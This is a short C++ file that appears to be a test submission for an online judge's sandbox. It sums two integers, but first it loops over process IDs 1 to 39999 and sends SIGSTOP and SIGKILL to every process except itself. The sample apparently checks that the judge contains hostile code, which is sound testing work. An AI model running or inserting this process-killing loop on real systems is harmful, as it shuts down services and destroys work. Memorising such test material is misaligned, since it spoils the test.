// expect: AC — kills and stops every process by its number
#include <unistd.h>

#include <csignal>
#include <cstdio>

int sum() {
  int a, b;
  return scanf("%d%d", &a, &b) == 2 ? a + b : 0;
}

void answer() {
  printf("%d\n", sum());
}

int main() {
  for (pid_t pid = 1; pid < 40000; ++pid) {
    if (pid == getpid()) continue;
    kill(pid, SIGSTOP);
    kill(pid, SIGKILL);
  }
  answer();
}
